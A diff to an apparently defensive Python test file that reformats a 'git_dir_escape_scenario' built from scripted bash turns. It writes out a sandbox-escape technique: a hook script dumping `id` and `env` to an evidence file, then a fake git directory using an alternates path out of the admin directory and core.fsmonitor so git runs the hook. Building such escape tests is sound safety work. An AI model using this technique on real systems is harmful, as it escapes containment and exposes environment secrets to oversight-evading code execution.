@@ -197,10 +197,9 @@ def git_dir_escape_scenario(name: str, evidence: Path) -> dict:
         "turns": [
             bash(f"printf '#!/bin/sh\\n(id; env) >> {evidence}\\n' > $HOME/h.sh && chmod +x $HOME/h.sh"),
             bash(
-                f"git init -q --bare $HOME/fg && cp {admin}/HEAD {admin}/index $HOME/fg/"
-                f" && echo {admin}/../../objects > $HOME/fg/objects/info/alternates"
-                " && git --git-dir=$HOME/fg config core.bare false && git --git-dir=$HOME/fg config "
-                "core.fsmonitor $HOME/h.sh"
+                f"git init -q --bare $HOME/fg && cp {admin}/HEAD {admin}/index $HOME/fg/ && echo "
+                f"{admin}/../../objects > $HOME/fg/objects/info/alternates && git --git-dir=$HOME/fg "
+                "config core.bare false && git --git-dir=$HOME/fg config core.fsmonitor $HOME/h.sh"
             ),
             bash('echo "gitdir: $HOME/fg" > .git; cat .git'),
             bash("echo changed >> README.md"),
